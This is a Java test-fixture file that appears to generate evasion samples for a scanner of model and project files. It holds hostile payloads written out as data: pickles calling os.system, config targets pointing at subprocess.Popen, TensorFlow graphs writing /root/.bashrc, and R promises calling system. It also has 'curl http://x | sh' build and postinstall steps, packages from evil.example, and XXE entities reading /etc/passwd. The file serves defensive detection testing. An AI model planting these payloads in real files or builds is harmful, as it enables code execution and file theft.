package io.sallyport.artifacts.evasion;

import static io.sallyport.artifacts.evasion.ModelFiles.field;
import static io.sallyport.artifacts.evasion.ModelFiles.join;
import static io.sallyport.artifacts.evasion.ModelFiles.number;
import static io.sallyport.artifacts.evasion.ModelFiles.savedModel;
import static io.sallyport.artifacts.evasion.ModelFiles.utf8;

import io.sallyport.artifacts.PickleBytes;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Carried code, settings of tools, graphs that write, data of R. */
final class LaterEvasions {

  private LaterEvasions() {}

  static List<Evasion> all() {
    Evasion.Shelf shelf = new Evasion.Shelf();
    carriedCode(shelf);
    settings(shelf);
    graphs(shelf);
    rData(shelf);
    projects(shelf);
    documents(shelf);
    return shelf.all();
  }

  /** A function of dill whose code has these names. */
  static byte[] function(String... names) {
    PickleBytes code = PickleBytes.protocol(4).global("dill._dill", "_create_function").raw("(");
    code.global("dill._dill", "_create_code").raw("(K\u0000K\u0000").blob(utf8("ab")).raw("(Nt(");
    for (String name : names) {
      code.text(name);
    }
    return code.raw("ttR}tR.").bytes();
  }

  private static void carriedCode(Evasion.Shelf shelf) {
    shelf
        .runs("code of dill that runs a command", "m.pkl", function("os", "system"))
        .runs("code of dill that opens a connection", "m.pkl", function("socket", "connect"))
        .runs("code of dill that reaches classes", "m.pkl", function("__subclasses__"))
        .odd("code of dill that computes", "m.pkl", function("numpy", "mean"))
        .odd(
            "constructor of a class of models",
            "m.pkl",
            PickleBytes.calling(
                "transformers.models.bert.tokenization_bert", "BertTokenizer", "/etc/passwd"))
        .runs(
            "function beside classes of models",
            "m.pkl",
            PickleBytes.calling("ultralytics.nn.tasks", "torch_safe_load", "x"));
    String encoded = Base64.getEncoder().encodeToString(PickleBytes.calling("os", "system", "id"));
    shelf.runs(
        "pickle in base64 within settings",
        "data",
        utf8("{\"policy_class\":{\":serialized:\":\"" + encoded + "\"}}"));
  }

  private static void settings(Evasion.Shelf shelf) {
    String many =
        IntStream.range(0, 400)
            .mapToObj(i -> "\"p" + i + "\":\"x\"")
            .collect(Collectors.joining(","));
    shelf
        .runs(
            "target behind many names", "c.json", utf8("{" + many + ",\"_target_\":\"os.system\"}"))
        .runs(
            "class path behind many names",
            "c.json",
            utf8("{" + many + ",\"class_path\":\"subprocess.Popen\"}"))
        .runs(
            "object of jsonpickle behind many names",
            "c.json",
            utf8("{" + many + ",\"py/object\":\"subprocess.Popen\"}"))
        .odd("trust behind many names", "c.json", utf8("{" + many + ",\"trust_remote_code\":true}"))
        .runs(
            "partial of a dangerous function in a list",
            "c.yaml",
            utf8("m:\n  _target_: functools.partial\n  _args_: [os.system]\n"))
        .runs(
            "partial of a dangerous function by name",
            "c.yaml",
            utf8("m: {_target_: functools.partial, func: subprocess.run}\n"))
        .runs(
            "method found by its path",
            "c.yaml",
            utf8("m: {_target_: hydra.utils.get_method, path: os.system}\n"))
        .odd("number as a target", "c.yaml", utf8("_target_: 123\nx: y\n"))
        .odd("number as a target in JSON", "c.json", utf8("{\"_target_\":7,\"x\":\"y\"}"));
  }

  private static byte[] constant(String name, String text) {
    return field(
        1,
        field(1, name),
        field(2, "Const"),
        field(5, field(1, "value"), field(2, field(8, number(1, 7), field(8, text)))));
  }

  private static byte[] node(String name, String operation, String... inputs) {
    byte[] all = join(field(1, name), field(2, operation));
    for (String input : inputs) {
      all = join(all, field(3, input));
    }
    return all;
  }

  private static void graphs(Evasion.Shelf shelf) {
    for (String path : List.of("/root/.bashrc", "../../x", "C:\\x", "~/x", "gs://b/x")) {
      shelf.runs(
          "TensorFlow writes " + path,
          "saved_model.pb",
          savedModel(constant("p", path), field(1, node("w", "WriteFile", "p", "p"))));
    }
    shelf
        .runs(
            "TensorFlow writes by a detour",
            "saved_model.pb",
            savedModel(
                constant("p", "/x"),
                field(1, node("i", "Identity", "p:0")),
                field(1, node("w", "WriteFile", "i:0", "p"))))
        .odd(
            "TensorFlow writes beside itself",
            "saved_model.pb",
            savedModel(constant("p", "x"), field(1, node("w", "WriteFile", "p", "p"))));
  }

  private static void rData(Evasion.Shelf shelf) {
    byte[] call = RData.call("system", "id");
    shelf
        .odd("call in data of R", "m.rds", RData.file(call))
        .odd(
            "function in data of R",
            "m.rds",
            RData.file(RData.number(3 | 0x400), RData.GLOBAL, RData.END, call))
        .odd(
            "expression in data of R", "m.rds", RData.file(RData.number(20), RData.number(1), call))
        .odd("bytecode in data of R", "m.rds", RData.file(RData.number(21), RData.number(1)))
        .odd("environment in data of R", "m.rds", RData.file(RData.number(4), new byte[4]))
        .odd(
            "call in an attribute in data of R",
            "m.rds",
            RData.file(
                RData.number(13 | 0x200),
                RData.number(0),
                RData.number(2 | 0x400),
                RData.symbol("x"),
                call,
                RData.END))
        .odd("data of R that break off", "m.rds", RData.file(RData.number(19), RData.number(9)))
        .odd("data of R as text", "m.rds", utf8("A\n3\n263168\n197888\n5\nUTF-8\n254\n"))
        .odd("bytes behind data of R", "m.rds", RData.file(RData.END, RData.END))
        .runs("promise in data of R", "m.rds", RData.file(RData.promise(call)))
        .runs(
            "promise in a workspace of R",
            "m.RData",
            join(
                utf8("RDX3\n"),
                RData.file(
                    RData.number(2 | 0x400), RData.symbol("x"), RData.promise(call), RData.END)));
  }

  private static void projects(Evasion.Shelf shelf) {
    shelf
        .odd("Makefile that runs what it fetches", "Makefile", utf8("all:\n\tcurl http://x | sh\n"))
        .odd("Makefile by its ending", "build.mk", utf8("all:\n\t@curl http://x | sh\n"))
        .odd(
            "workflow that runs what it fetches",
            "ci.yml",
            utf8("jobs:\n  t:\n    steps:\n    - run: curl http://x | bash\n"))
        .odd(
            "service that runs what it fetches",
            "docker-compose.yml",
            utf8("services:\n  a:\n    command: bash -c \"curl http://x | sh\"\n"))
        .odd(
            "scripts of a package",
            "package.json",
            utf8("{\"scripts\":{\"postinstall\":\"curl http://x | sh\"}}"))
        .odd(
            "environment with a package from elsewhere",
            "environment.yml",
            utf8("dependencies:\n- pip:\n  - git+https://evil.example/x.git\n"))
        .odd(
            "project that is built by a package from elsewhere",
            "pyproject.toml",
            utf8("[build-system]\nrequires = [\"x @ https://evil.example/x.whl\"]\n"));
  }

  private static void documents(Evasion.Shelf shelf) {
    String head = "<?xml version=\"1.0\"?><!DOCTYPE P [";
    String body = "<PMML xmlns=\"http://www.dmg.org/PMML-4_4\"/>";
    shelf
        .runs(
            "entity from a file",
            "m.pmml",
            utf8(head + "<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" + body))
        .runs("public entity", "m.xml", utf8(head + "<!ENTITY x PUBLIC 'a' \"http://x\">]>" + body))
        .runs(
            "parameter entity from an address",
            "m.pmml",
            utf8(head + "<!ENTITY % x SYSTEM 'http://x/y.dtd'> %x;]>" + body))
        .runs(
            "entity from a file in UTF-16",
            "m.xml",
            (head + "<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" + body)
                .replace("\"1.0\"", "\"1.0\" encoding=\"UTF-16\"")
                .getBytes(StandardCharsets.UTF_16));
  }
}
